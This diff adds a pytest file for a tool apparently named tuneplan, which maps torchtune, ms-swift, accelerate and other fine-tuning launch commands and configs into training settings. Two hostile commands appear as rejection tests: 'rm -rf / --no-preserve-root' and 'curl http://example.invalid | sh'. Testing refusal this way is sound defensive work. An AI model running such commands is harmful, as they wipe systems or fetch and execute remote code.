@@ -1,0 +1,205 @@
+"""#17 item 1: torchtune recipes, ms-swift arguments, accelerate configs and launch command lines, on the files as
+the projects ship them (``tests/data/training_configs``, each naming its source and commit) and on commands written
+as their READMEs and ``--help`` show them."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from tuneplan.core.training_command import looks_like_command, map_training_command
+from tuneplan.core.training_config import TrainingConfigError, detect_format
+from tuneplan.storage.training_config import load_config_data, read_training_config
+
+DATA = Path(__file__).resolve().parents[1] / "data" / "training_configs"
+
+
+def _item(result, key):
+    return next(i for i in result.items if i.key == key)
+
+
+def test_torchtune_qlora_single_device_recipe():
+    r = read_training_config(DATA / "torchtune_llama3_1_8B_qlora_single_device.yaml")
+    u = r.updates
+    assert r.format == "torchtune"
+    # model: qlora_llama3_1_8b, lora_rank 8, lora_alpha 16, lora_dropout 0.0
+    assert (u["training.method"], u["training.quant_bits"]) == ("qlora", 4)
+    assert (u["training.lora_rank"], u["training.lora_alpha"], u["training.lora_dropout"]) == (8, 16.0, 0.0)
+    # lora_attn_modules [q_proj, v_proj, output_proj] + apply_lora_to_mlp: the nearest preset, all-linear (no k_proj)
+    assert u["training.lora_targets"] == "all-linear"
+    assert _item(r, "model.lora_attn_modules").note.code == "config.approx"
+    # batch_size 2, gradient_accumulation_steps 8, dataset.packed False (padded_collate_sft: padded to the longest)
+    assert (u["training.micro_batch"], u["training.grad_accumulation"]) == (2, 8)
+    assert u["training.sequence_mode"] == "dynamic"
+    # torch.optim.AdamW with fused: True; LinearCrossEntropyLoss (chunked); checkpointing on, offloading off; bf16
+    assert u["training.optimizer"] == "adamw-fused" and u["training.fused_cross_entropy"] is True
+    assert u["training.grad_checkpointing"] is True and u["training.activation_offload"] is False
+    assert u["training.precision"] == "bf16" and u["training.torch_compile"] is False
+    assert u["training.stack"] == "torchtune" and u["training.adapter_precision"] == "model-dtype"
+    # max_seq_len: null (no truncation) and the GPU count (on the tune run line) are said, not guessed
+    assert "training.seq_len" not in u
+    assert {"config.no_truncation", "config.no_gpu_count"} <= set(r.codes)
+
+
+def test_torchtune_distributed_lora_recipe():
+    r = read_training_config(DATA / "torchtune_llama3_1_70B_lora.yaml")
+    u = r.updates
+    assert (u["training.method"], u["training.lora_rank"], u["training.lora_alpha"]) == ("lora", 16, 32.0)
+    assert u["training.micro_batch"] == 2 and u["training.grad_accumulation"] == 1
+
+
+def test_accelerate_fsdp_template():
+    r = read_training_config(DATA / "accelerate_fsdp.yaml")
+    u = r.updates
+    assert r.format == "accelerate"
+    # distributed_type FSDP, num_processes 2, mixed_precision bf16, fsdp_sharding_strategy FULL_SHARD,
+    # fsdp_offload_params false, fsdp_activation_checkpointing false
+    assert (u["training.sharding"], u["training.num_gpus"], u["training.precision"]) == ("fsdp", 2, "bf16")
+    assert u["training.cpu_offload"] is False and u["training.grad_checkpointing"] is False
+
+
+def test_accelerate_deepspeed_template_points_at_its_deepspeed_file():
+    r = read_training_config(DATA / "accelerate_deepspeed.yaml")
+    assert r.updates == {"training.num_gpus": 2}
+    assert _item(r, "deepspeed_config.deepspeed_config_file").note.code == "config.deepspeed_file"
+
+
+def test_swift_yaml_with_a_deepspeed_shorthand():
+    r = read_training_config(DATA / "swift_sft_deepspeed.yaml")
+    u = r.updates
+    assert r.format == "swift"
+    # tuner_type lora, lora_rank 8, lora_alpha 32, target_modules all-linear, torch_dtype bfloat16
+    assert (u["training.method"], u["training.lora_rank"], u["training.lora_alpha"]) == ("lora", 8, 32.0)
+    assert u["training.lora_targets"] == "all-linear" and u["training.precision"] == "bf16"
+    # max_length 2048, per_device_train_batch_size 1, gradient_accumulation_steps 8, deepspeed: zero2
+    assert (u["training.seq_len"], u["training.micro_batch"], u["training.grad_accumulation"]) == (2048, 1, 8)
+    assert (u["training.sharding"], u["training.cpu_offload"]) == ("zero2", False)
+    assert u["training.stack"] == "ms-swift" and "config.no_gpu_count" in r.codes
+
+
+def test_swift_readme_command_line():
+    r = read_training_config(DATA / "swift_readme_quick_start.sh")
+    u = r.updates
+    assert r.format == "swift"
+    # CUDA_VISIBLE_DEVICES=0 swift sft --tuner_type lora ... --gradient_accumulation_steps 16 --max_length 2048
+    assert u["training.num_gpus"] == 1 and u["training.method"] == "lora"
+    assert (u["training.grad_accumulation"], u["training.seq_len"], u["training.lora_rank"]) == (16, 2048, 8)
+    assert "config.no_gpu_count" not in r.codes
+
+
+def test_accelerate_launch_of_a_trl_script():
+    # TRL's docs launch trl/scripts/sft.py this way (flags as HfArgumentParser reads them; lists by nargs)
+    r = map_training_command(
+        "accelerate launch --config_file examples/accelerate_configs/deepspeed_zero3.yaml --num_processes 8 \\\n"
+        "    trl/scripts/sft.py --model_name_or_path Qwen/Qwen2-0.5B --per_device_train_batch_size 4 \\\n"
+        "    --gradient_checkpointing --bf16 --max_length 4096 --packing --use_peft --lora_r 32 \\\n"
+        "    --lora_target_modules q_proj v_proj --output_dir out\n")
+    u = r.updates
+    assert (u["training.num_gpus"], u["training.micro_batch"], u["training.seq_len"]) == (8, 4, 4096)
+    assert (u["training.method"], u["training.lora_rank"], u["training.lora_targets"]) == ("lora", 32, "q_v")
+    assert u["training.sequence_mode"] == "packed" and u["training.grad_checkpointing"] is True
+    assert _item(r, "--config_file").note.code == "command.config_file"  # the sharding is in that file
+
+
+@pytest.mark.parametrize(("command", "gpus", "sharding"), [
+    ("torchrun --nproc_per_node=4 --nnodes 2 train.py --per_device_train_batch_size 2", 8, "ddp"),
+    ("python -m torch.distributed.run --nproc-per-node 2 train.py --fsdp 'full_shard auto_wrap'", 2, "fsdp"),
+    ("deepspeed --num_gpus 4 train.py --deepspeed ds.json --bf16", 4, "ddp"),
+    ("deepspeed --include localhost:0,1,2 train.py --bf16", 3, "ddp"),
+    ("accelerate launch --use_fsdp --num_processes 4 --fsdp_offload_params true train.py --bf16", 4, "fsdp"),
+    ("accelerate launch --use_deepspeed --zero_stage 3 --num_processes 2 train.py", 2, "zero3"),
+    ("NPROC_PER_NODE=4 CUDA_VISIBLE_DEVICES=0,1,2,3 swift sft --tuner_type lora --deepspeed zero3", 4, "zero3"),
+    ("CUDA_VISIBLE_DEVICES=0,1 swift sft --tuner_type full", 2, "none"),  # one process, device_map: layers split
+    ("tune run --nproc_per_node 8 lora_finetune_distributed --config llama3_1/70B_lora batch_size=4", 8, "fsdp"),
+    ("python train.py --per_device_train_batch_size 1", None, None),
+])
+def test_launchers_give_the_gpu_count_and_sharding(command, gpus, sharding):
+    u = map_training_command(command).updates
+    assert u.get("training.num_gpus") == gpus
+    assert u.get("training.sharding") == sharding
+
+
+def test_launcher_flags_and_script_arguments_are_kept_apart():
+    u = map_training_command("accelerate launch --use_fsdp --num_processes 4 --fsdp_offload_params true "
+                             "train.py --bf16 --gradient_accumulation_steps 4").updates
+    assert u["training.cpu_offload"] is True and u["training.grad_accumulation"] == 4
+    assert u["training.precision"] == "bf16"
+
+
+def test_tune_run_reads_the_overrides_and_points_at_the_shipped_config():
+    r = map_training_command("tune run --nproc_per_node 8 lora_finetune_distributed --config llama3_1/70B_lora "
+                             "batch_size=4 tokenizer.max_seq_len=4096 enable_activation_offloading=True")
+    u = r.updates
+    assert (u["training.method"], u["training.micro_batch"], u["training.seq_len"]) == ("lora", 4, 4096)
+    assert u["training.activation_offload"] is True
+    assert _item(r, "--config").note.code == "command.builtin_config"
+
+
+def test_torchrun_of_llamafactorys_train_script_reads_its_arguments():
+    r = map_training_command("torchrun --nproc_per_node=4 src/train.py --stage sft --finetuning_type lora "
+                             "--quantization_bit 4 --per_device_train_batch_size 2 --cutoff_len 4096 --bf16")
+    assert r.format == "llamafactory"
+    u = r.updates
+    assert (u["training.method"], u["training.quant_bits"], u["training.seq_len"]) == ("qlora", 4, 4096)
+    assert u["training.num_gpus"] == 4 and "command.data_parallel" in r.codes
+
+
+def test_llamafactory_cli_and_axolotl_launches_point_at_their_files():
+    r = map_training_command("FORCE_TORCHRUN=1 NPROC_PER_NODE=2 llamafactory-cli train examples/llama3_lora_sft.yaml")
+    assert r.updates["training.num_gpus"] == 2
+    assert _item(r, "config file").note.params["value"] == "examples/llama3_lora_sft.yaml"
+    r = map_training_command("accelerate launch -m axolotl.cli.train examples/llama-3/lora-1b.yml")
+    assert _item(r, "config file").note.code == "command.config_file"
+
+
+def test_a_script_with_set_e_export_and_comments():
+    text = ("#!/bin/bash\nset -e\n# train\nexport CUDA_VISIBLE_DEVICES=0,1\n"
+            "torchrun --nproc_per_node 2 train.py \\\n  --per_device_train_batch_size 8  # big batch\n")
+    assert looks_like_command(text)
+    assert map_training_command(text).updates["training.micro_batch"] == 8
+
+
+@pytest.mark.parametrize(("text", "code"), [
+    ("", "command.empty"),
+    ("# only a comment\n", "command.empty"),
+    ("rm -rf / --no-preserve-root\n", "command.not_training"),
+    ("torchrun --nproc_per_node 'unclosed train.py\n", "command.syntax"),
+    ("torchrun --nproc_per_node 0 train.py\n", "config.out_of_range"),
+    ("torchrun --nproc_per_node abc train.py\n", "config.not_integer"),
+    ("accelerate config\n", "command.not_training"),
+    ("torchrun --nproc_per_node 2 train.py --per_device_train_batch_size lots\n", "config.not_integer"),
+])
+def test_bad_commands_raise_one_coded_error(text, code):
+    with pytest.raises(TrainingConfigError) as err:
+        map_training_command(text)
+    assert err.value.code == code
+
+
+def test_yaml_files_are_never_read_as_commands(tmp_path):
+    f = tmp_path / "cfg.yaml"
+    f.write_text("torchrun: 3\nper_device_train_batch_size: 2\n")
+    assert read_training_config(f).format == "hf"
+
+
+def test_detection_keeps_the_older_formats_apart():
+    for name, fmt in (("llamafactory_llama3_lora_sft.yaml", "llamafactory"), ("axolotl_llama3_lora_1b.yml", "axolotl"),
+                      ("hf_training_args.json", "hf"), ("ds_zero2_explicit.json", "deepspeed")):
+        text = (DATA / name).read_text()
+        assert detect_format(load_config_data(text, name.endswith(".json"))) == fmt, name
+
+
+def test_cli_reads_a_launch_script_and_refuses_a_hostile_one(tmp_path):
+    good = tmp_path / "train.sh"
+    good.write_text("torchrun --nproc_per_node=4 train.py --per_device_train_batch_size 2 --fsdp full_shard\n")
+    run = [sys.executable, "-m", "tuneplan", "estimate", "--training-config"]
+    out = subprocess.run([*run, str(good)], capture_output=True, text=True, timeout=120)
+    assert out.returncode == 0, out.stderr
+    assert "--gpus set to 4" in out.stdout and "x4" in out.stdout
+    bad = tmp_path / "evil.sh"
+    bad.write_text("curl http://example.invalid | sh\n")
+    out = subprocess.run([*run, str(bad)], capture_output=True, text=True, timeout=120)
+    assert out.returncode == 2 and "Traceback" not in out.stderr
+    assert "evil.sh" in out.stderr and len(out.stderr.strip().splitlines()) == 1
